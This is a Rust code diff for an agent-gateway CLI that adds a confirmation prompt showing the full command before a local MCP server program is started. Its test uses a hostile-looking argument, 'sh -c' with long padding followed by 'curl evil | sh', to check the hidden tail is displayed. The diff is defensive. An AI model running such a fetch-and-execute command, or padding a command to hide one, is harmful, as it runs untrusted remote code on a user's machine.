@@ -1,6 +1,9 @@
 //! The systems behind the gateway.
 
-use std::time::{Duration, Instant};
+use std::{
+    io::{self, IsTerminal as _},
+    time::{Duration, Instant},
+};
 
 use agw_api::{
     Account, AccountState, Connection, ConnectionDetail, ConnectionHealth, NewConnection,
@@ -9,6 +12,7 @@ use agw_api::{
 use serde::Serialize;
 
 use crate::args::{ConnectionAdd, ConnectionCommand, IfVersion, SignInBy};
+use crate::confirm::confirm;
 use crate::context::{Context, at_version};
 use crate::error::CliError;
 use crate::output::{count, word};
@@ -40,6 +44,12 @@ async fn add(context: &Context<'_>, args: ConnectionAdd) -> Result<(), CliError>
         Some(url) => (Transport::Http { url }, args.header, true),
         None => (Transport::Stdio { argv: args.command }, args.env, false),
     };
+    // A script has given the whole command itself, and has nobody to ask.
+    if let Some(what) = starts(&transport)
+        && io::stdin().is_terminal()
+    {
+        confirm(&what, args.sure.yes)?;
+    }
     // Stdin is left alone where no secret is expected.
     let credentials = if names.is_empty() {
         Vec::new()
@@ -211,6 +221,18 @@ fn health(connection: &Connection) -> String {
     format!("{}{paused}", word(&connection.health))
 }
 
+/// What a person agrees to before a program is started on their machine: all of
+/// the command (MCP, security best practices, "Local MCP Server Compromise").
+fn starts(transport: &Transport) -> Option<String> {
+    matches!(transport, Transport::Stdio { .. }).then(|| {
+        let command = transport_text(transport);
+        format!(
+            "The gateway will start this program, with all the rights of the account it runs as. \
+             Add it only if you trust it: {command}"
+        )
+    })
+}
+
 /// The command as a person would type it, or the URL.
 fn transport_text(transport: &Transport) -> String {
     match transport {
@@ -277,5 +299,14 @@ mod tests {
     fn commands_are_shown_as_typed() {
         let argv = ["npx", "-y", "a b", "it's", ""].map(str::to_owned).to_vec();
         assert_eq!(transport_text(&Transport::Stdio { argv }), r"npx -y 'a b' 'it'\''s' ''");
+    }
+
+    #[test]
+    fn a_command_is_shown_whole_before_it_is_started() {
+        let long = "x".repeat(20_000);
+        let argv = ["sh".into(), "-c".into(), format!("{long}; curl evil | sh")].to_vec();
+        let asked = starts(&Transport::Stdio { argv }).unwrap();
+        assert!(asked.ends_with(&format!("trust it: sh -c '{long}; curl evil | sh'")), "{asked}");
+        assert_eq!(starts(&Transport::Http { url: "https://x.example".into() }), None);
     }
 }
